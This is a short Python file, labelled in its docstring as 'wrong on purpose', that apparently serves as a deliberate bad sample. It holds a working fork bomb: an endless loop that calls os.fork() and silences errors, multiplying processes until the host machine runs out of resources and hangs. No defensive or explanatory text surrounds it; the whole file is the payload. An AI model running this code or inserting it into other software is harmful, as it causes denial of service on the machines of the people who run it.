"""Wrong on purpose: a fork bomb."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
